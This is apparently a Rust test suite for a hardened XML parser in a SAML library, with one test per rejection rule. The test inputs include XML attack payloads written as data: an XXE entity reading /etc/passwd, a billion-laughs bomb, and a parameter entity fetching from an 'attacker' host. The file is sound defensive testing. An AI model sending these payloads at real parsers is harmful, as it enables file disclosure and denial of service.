//! One named test per rule of the hardened parser, each asserting
//! the exact error variant.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use samlsp::internal::xml::{Limits, XmlError, parse};

fn err(input: &[u8]) -> XmlError {
    parse(input, &Limits::default()).expect_err("must be rejected")
}

fn err_with(input: &[u8], limits: Limits) -> XmlError {
    parse(input, &limits).expect_err("must be rejected")
}

#[test]
fn rejects_doctype() {
    assert!(matches!(
        err(b"<!DOCTYPE r><r/>"),
        XmlError::DoctypeForbidden { .. }
    ));
}

#[test]
fn rejects_xxe_external_entity() {
    let xxe = br#"<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>"#;
    assert!(matches!(err(xxe), XmlError::DoctypeForbidden { .. }));
}

#[test]
fn rejects_billion_laughs() {
    let bomb = br#"<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><r>&lol2;</r>"#;
    assert!(matches!(err(bomb), XmlError::DoctypeForbidden { .. }));
}

#[test]
fn rejects_parameter_entity_dtd() {
    let oob = br#"<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "http://attacker/x"> %xxe; ]><r/>"#;
    assert!(matches!(err(oob), XmlError::DoctypeForbidden { .. }));
}

#[test]
fn rejects_doctype_after_comment() {
    assert!(matches!(
        err(b"<!-- c --><!DOCTYPE r SYSTEM 'x\"><!--'><r/>"),
        XmlError::DoctypeForbidden { .. }
    ));
}

#[test]
fn rejects_unknown_entity_reference() {
    assert_eq!(
        err(b"<r>&foo;</r>"),
        XmlError::UnknownEntity { name: "foo".into() }
    );
}

#[test]
fn rejects_unknown_entity_in_attribute() {
    assert_eq!(
        err(b"<r a=\"&foo;\"/>"),
        XmlError::UnknownEntity { name: "foo".into() }
    );
}

#[test]
fn rejects_character_reference_to_a_forbidden_character() {
    assert!(matches!(
        err(b"<r>&#0;</r>"),
        XmlError::InvalidCharacterReference { .. }
    ));
    assert!(matches!(
        err(b"<r>&#xD800;</r>"),
        XmlError::InvalidCharacterReference { .. }
    ));
    assert!(matches!(
        err(b"<r>&#x;</r>"),
        XmlError::InvalidCharacterReference { .. }
    ));
}

#[test]
fn rejects_forbidden_literal_character() {
    assert!(matches!(
        err(b"<r>\x01</r>"),
        XmlError::InvalidCharacter { code: 1, .. }
    ));
}

#[test]
fn rejects_invalid_utf8() {
    assert_eq!(err(b"<r>\xff</r>"), XmlError::InvalidUtf8 { offset: 3 });
}

#[test]
fn rejects_utf16() {
    let utf16: Vec<u8> = "\u{feff}<r/>"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    assert!(matches!(err(&utf16), XmlError::InvalidUtf8 { .. }));
}

#[test]
fn rejects_declared_non_utf8_encoding() {
    assert_eq!(
        err(b"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r/>"),
        XmlError::UnsupportedEncoding {
            encoding: "ISO-8859-1".into()
        }
    );
}

#[test]
fn rejects_xml_1_1() {
    assert_eq!(
        err(b"<?xml version=\"1.1\"?><r/>"),
        XmlError::UnsupportedVersion {
            version: "1.1".into()
        }
    );
}

#[test]
fn rejects_truncated_document() {
    assert_eq!(err(b"<r><a>text</a>"), XmlError::Truncated);
    assert_eq!(err(b"<r><a attr=\"x"), XmlError::Truncated);
    assert_eq!(err(b"<r><!-- unclosed"), XmlError::Truncated);
}

#[test]
fn rejects_empty_input() {
    assert_eq!(err(b""), XmlError::NoRoot);
    assert_eq!(err(b"  <!-- only a comment -->"), XmlError::NoRoot);
}

#[test]
fn rejects_mismatched_end_tag() {
    assert!(matches!(
        err(b"<r><a></b></r>"),
        XmlError::MismatchedEndTag { .. }
    ));
}

#[test]
fn rejects_unmatched_end_tag() {
    assert!(matches!(err(b"</r>"), XmlError::UnmatchedEndTag { .. }));
}

#[test]
fn rejects_second_root() {
    assert!(matches!(err(b"<r/><r/>"), XmlError::MultipleRoots { .. }));
}

#[test]
fn rejects_text_after_root() {
    assert!(matches!(
        err(b"<r/>trailing"),
        XmlError::ContentAfterRoot { .. }
    ));
}

#[test]
fn rejects_text_before_root() {
    assert!(matches!(
        err(b"leading<r/>"),
        XmlError::ContentAfterRoot { .. }
    ));
}

#[test]
fn rejects_duplicate_attribute() {
    assert!(matches!(
        err(b"<r a=\"1\" a=\"2\"/>"),
        XmlError::DuplicateAttribute { .. }
    ));
}

#[test]
fn rejects_duplicate_attribute_after_namespace_resolution() {
    let doc = b"<r xmlns:p=\"urn:x\" xmlns:q=\"urn:x\" p:a=\"1\" q:a=\"2\"/>";
    assert_eq!(
        err(doc),
        XmlError::DuplicateAttribute { name: "q:a".into() }
    );
}

#[test]
fn rejects_undeclared_element_prefix() {
    assert_eq!(
        err(b"<p:r/>"),
        XmlError::UndeclaredPrefix { prefix: "p".into() }
    );
}

#[test]
fn rejects_undeclared_attribute_prefix() {
    assert_eq!(
        err(b"<r p:a=\"1\"/>"),
        XmlError::UndeclaredPrefix { prefix: "p".into() }
    );
}

#[test]
fn rejects_prefix_undeclaration() {
    assert!(matches!(
        err(b"<r xmlns:p=\"\"/>"),
        XmlError::InvalidNamespaceDeclaration { .. }
    ));
}

#[test]
fn rejects_rebinding_xml_prefix() {
    assert!(matches!(
        err(b"<r xmlns:xml=\"urn:x\"/>"),
        XmlError::InvalidNamespaceDeclaration { .. }
    ));
}

#[test]
fn rejects_relative_namespace_uri() {
    assert_eq!(
        err(b"<r xmlns=\"relative\"/>"),
        XmlError::RelativeNamespaceUri {
            uri: "relative".into()
        }
    );
}

#[test]
fn rejects_invalid_qualified_names() {
    // Go encoding/xml round-trip shapes (CVE-2020-29511/29509).
    assert!(matches!(
        err(b"<x::Root xmlns:x=\"urn:x\"/>"),
        XmlError::InvalidName { .. }
    ));
    assert!(matches!(
        err(b"<Root :attr=\"foo\"/>"),
        XmlError::InvalidName { .. }
    ));
}

#[test]
fn rejects_misplaced_xml_declaration() {
    assert!(matches!(
        err(b"<r/><?xml version=\"1.0\"?>"),
        XmlError::ReservedPiTarget { .. }
    ));
}

#[test]
fn rejects_cdata_end_marker_in_text() {
    assert!(matches!(err(b"<r>a]]>b</r>"), XmlError::Malformed { .. }));
}

#[test]
fn rejects_less_than_in_attribute_value() {
    assert!(matches!(err(b"<r a=\"<\"/>"), XmlError::Malformed { .. }));
}

#[test]
fn rejects_input_over_the_size_limit() {
    let limits = Limits {
        max_input_bytes: 16,
        ..Limits::default()
    };
    assert_eq!(
        err_with(b"<r>0123456789abcdef</r>", limits),
        XmlError::InputTooLarge {
            size: 23,
            limit: 16
        }
    );
}

#[test]
fn rejects_deep_nesting() {
    let deep = format!("{}{}", "<a>".repeat(10_000), "</a>".repeat(10_000));
    assert_eq!(err(deep.as_bytes()), XmlError::TooDeep { limit: 64 });
}

#[test]
fn rejects_too_many_elements() {
    let many = format!("<r>{}</r>", "<a/>".repeat(10_001));
    assert_eq!(
        err(many.as_bytes()),
        XmlError::TooManyElements { limit: 10_000 }
    );
}

#[test]
fn rejects_too_many_attributes() {
    let attrs: String = (0..65).map(|i| format!(" a{i}=\"x\"")).collect();
    assert_eq!(
        err(format!("<r{attrs}/>").as_bytes()),
        XmlError::TooManyAttributes { limit: 64 }
    );
}

#[test]
fn rejects_too_many_namespace_declarations() {
    let decls: String = (0..65)
        .map(|i| format!(" xmlns:p{i}=\"urn:{i}\""))
        .collect();
    assert_eq!(
        err(format!("<r{decls}/>").as_bytes()),
        XmlError::TooManyAttributes { limit: 64 }
    );
}

#[test]
fn rejects_too_many_namespaces_in_scope() {
    // 16 nested elements declaring 8 prefixes each: 128 in scope, the limit.
    let nest = |levels: usize| {
        let open: String = (0..levels)
            .map(|d| {
                let decls: String = (0..8)
                    .map(|i| format!(" xmlns:p{i}=\"urn:{d}:{i}\""))
                    .collect();
                format!("<e{decls}>")
            })
            .collect();
        format!("{open}{}", "</e>".repeat(levels))
    };
    assert!(parse(nest(16).as_bytes(), &Limits::default()).is_ok());
    assert_eq!(
        err(nest(17).as_bytes()),
        XmlError::TooManyNamespacesInScope { limit: 128 }
    );
    // Siblings do not add up: each one's declarations leave scope with it.
    let siblings = format!("<r>{}</r>", nest(16).repeat(50));
    assert!(parse(siblings.as_bytes(), &Limits::default()).is_ok());
}

#[test]
fn rejects_overlong_text() {
    let limits = Limits {
        max_text_bytes: 8,
        ..Limits::default()
    };
    assert_eq!(
        err_with(b"<r>0123456789</r>", limits),
        XmlError::TextTooLong { limit: 8 }
    );
    assert_eq!(
        err_with(b"<r a=\"0123456789\"/>", limits),
        XmlError::TextTooLong { limit: 8 }
    );
}

#[test]
fn accepts_bom_declaration_comments_and_pis() {
    let doc = parse(
        b"\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"utf-8\"?><!--c--><?pi x?><r/><!--d-->",
        &Limits::default(),
    )
    .unwrap();
    assert_eq!(doc.root().local_name(), "r");
}
